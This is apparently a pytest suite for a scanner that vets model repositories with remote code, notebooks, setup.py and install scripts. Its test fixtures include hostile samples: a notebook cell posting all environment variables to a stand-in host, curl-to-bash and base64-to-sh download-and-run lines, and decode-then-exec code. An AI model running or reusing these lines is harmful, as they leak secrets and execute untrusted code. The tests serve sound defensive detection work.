"""Remote-code models end to end: facts from real-shaped repositories, then the decision."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.code import repos
from tests.code.conftest import code_of, decision_of


def test_benign_remote_code_model_is_warned_not_denied(tmp_path: Path) -> None:
    root = repos.remote_code_model(tmp_path / "m")
    code = code_of(root)
    assert code.remote_code.present
    assert code.remote_code.files == [
        "configuration_x.py", "modeling_x.py", "rotary.py", "tokenization_x.py",
    ]  # fmt: skip
    assert [e.key for e in code.remote_code.auto_map] == [
        "AutoConfig", "AutoModelForCausalLM", "AutoTokenizer",
    ]  # fmt: skip
    assert all(e.present and e.repository is None for e in code.remote_code.auto_map)
    assert code.complete
    assert not [f for f in code.findings if f.severity in {"high", "critical"}]
    decision = decision_of(root)
    assert decision.outcome == "allow", [f.msg for f in decision.deny]
    assert "remote-code" in {f.id for f in decision.warn}


@pytest.mark.parametrize(
    ("payload", "rule", "line_text"),
    [
        (repos.SUBPROCESS, "code.process", 'sp.Popen(["/bin/sh"'),
        (repos.EXFILTRATE, "code.network", "urllib.request.urlopen(_req)"),
        (repos.EXFILTRATE, "code.env.dump", "_req = urllib.request.Request"),
        (repos.DECODE_EXEC, "code.obfuscation.exec", "exec(zlib.decompress"),
        (repos.PULL_CODE, "code.download.code", "_helper = AutoModel.from_pretrained"),
    ],
    ids=["subprocess", "exfiltrate-http", "exfiltrate-env", "decode-exec", "pull-code"],
)
def test_malicious_remote_code_is_denied_with_file_and_line(
    tmp_path: Path, payload: str, rule: str, line_text: str
) -> None:
    root = repos.remote_code_model(tmp_path / "m", payload=payload)
    text = (root / "modeling_x.py").read_text().splitlines()
    line = next(i for i, t in enumerate(text, 1) if t.startswith(line_text))
    decision = decision_of(root)
    assert decision.outcome == "deny"
    denied = [f for f in decision.deny if f.id == "remote-code-dangerous"]
    assert any(f"modeling_x.py:{line} " in f.msg and f"[{rule}]" in f.msg for f in denied), [
        f.msg for f in denied
    ]


def test_code_pulled_from_another_repository_is_denied(tmp_path: Path) -> None:
    auto_map = {**repos.LOCAL_MAP, "AutoModel": "evil-org/helper--modeling_helper.Helper"}
    root = repos.remote_code_model(tmp_path / "m", auto_map=auto_map)
    code = code_of(root)
    assert code.remote_code.repositories == ["evil-org/helper"]
    cross = [e for e in code.remote_code.auto_map if e.repository]
    assert cross[0].file == "modeling_helper.py" and not cross[0].present
    assert "code.remote.cross_repo" in {f.id for f in code.findings}
    decision = decision_of(root)
    assert decision.outcome == "deny"
    assert {f.id for f in decision.deny} == {"remote-code-cross-repo"}


def test_module_imported_relatively_by_a_target_runs_remotely(tmp_path: Path) -> None:
    root = repos.remote_code_model(tmp_path / "m")
    (root / "rotary.py").write_text(repos.ROTARY + repos.SUBPROCESS)
    decision = decision_of(root)
    assert any("rotary.py:" in f.msg for f in decision.deny if f.id == "remote-code-dangerous")


def test_auto_map_target_that_is_missing_is_a_finding(tmp_path: Path) -> None:
    root = repos.remote_code_model(tmp_path / "m")
    (root / "tokenization_x.py").unlink()
    code = code_of(root)
    missing = [f for f in code.findings if f.id == "code.remote.missing"]
    assert missing and missing[0].file == "tokenizer_config.json"


def test_module_with_a_syntax_error_is_a_finding(tmp_path: Path) -> None:
    root = repos.remote_code_model(tmp_path / "m")
    (root / "modeling_x.py").write_text(repos.MODELING + "\ndef broken(:\n    pass\n")
    code = code_of(root)
    bad = [f for f in code.findings if f.id == "code.parse_error"]
    assert bad and bad[0].file == "modeling_x.py" and bad[0].line == repos.MODELING.count("\n") + 2
    assert not code.complete
    assert not next(f for f in code.files if f.path == "modeling_x.py").parsed
    assert decision_of(root).outcome == "deny"


def test_notebook_with_payloads_is_caught_with_cell_and_line(tmp_path: Path) -> None:
    cells = [
        "!pip install transformers\nimport torch\nfrom transformers import AutoModel",
        "model = AutoModel.from_pretrained('.')\nprint(model)",
        "import base64\ncode = base64.b64decode('cHJpbnQoMSk=')\nexec(code)",
        "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))",
        "!curl -s http://x.example/i.sh | bash",
    ]
    root = repos.write(tmp_path / "m", {"demo.ipynb": repos.notebook(cells)})
    code = code_of(root)
    where = {(f.id, f.member, f.line) for f in code.findings}
    assert ("code.obfuscation.exec", "cell 4", 3) in where
    assert ("code.network", "cell 5", 2) in where
    assert ("code.env.dump", "cell 5", 2) in where
    assert ("code.shell.pipe_to_shell", "cell 6", 1) in where
    assert not any(f.member in {"cell 2", "cell 3"} for f in code.findings)
    decision = decision_of(root)
    assert decision.outcome == "deny"
    assert any("demo.ipynb cell 4:3" in f.msg for f in decision.deny if f.id == "code-finding")


def test_setup_py_with_payloads_is_caught(tmp_path: Path) -> None:
    root = repos.write(tmp_path / "m", {"setup.py": repos.SETUP_PY + repos.SUBPROCESS})
    code = code_of(root)
    assert code.files[0].kind == "python" and not code.files[0].runs_remote
    process = [f for f in code.findings if f.id == "code.process"]
    assert process and process[0].severity == "high" and process[0].line == 7
    assert decision_of(root).outcome == "deny"


def test_benign_setup_py_and_notebook_are_allowed(tmp_path: Path) -> None:
    cells = ["%pip install -q transformers\nimport torch", "x = torch.zeros(2)\nx.sum()"]
    root = repos.write(
        tmp_path / "m",
        {"setup.py": repos.SETUP_PY, "demo.ipynb": repos.notebook(cells), "README.md": "# m\n"},
    )
    code = code_of(root)
    assert code.findings == [] and code.complete and not code.remote_code.present
    assert decision_of(root).outcome == "allow"


def test_shell_script_found_by_shebang(tmp_path: Path) -> None:
    script = "#!/usr/bin/env bash\nset -e\n# fetch\n"
    script += "curl -fsSL https://x.example/a.b64 | base64 -d | sh\n"
    root = repos.write(tmp_path / "m", {"bin/install": script})
    code = code_of(root)
    assert [(f.path, f.kind) for f in code.files] == [("bin/install", "shell")]
    assert [(f.id, f.line) for f in code.findings] == [("code.shell.decode_exec", 4)]


def test_model_without_code_has_empty_code_facts(tmp_path: Path) -> None:
    root = repos.write(tmp_path / "m", {"model.safetensors": repos.safetensors()})
    code = code_of(root)
    assert not code.remote_code.present and code.files == [] and code.complete
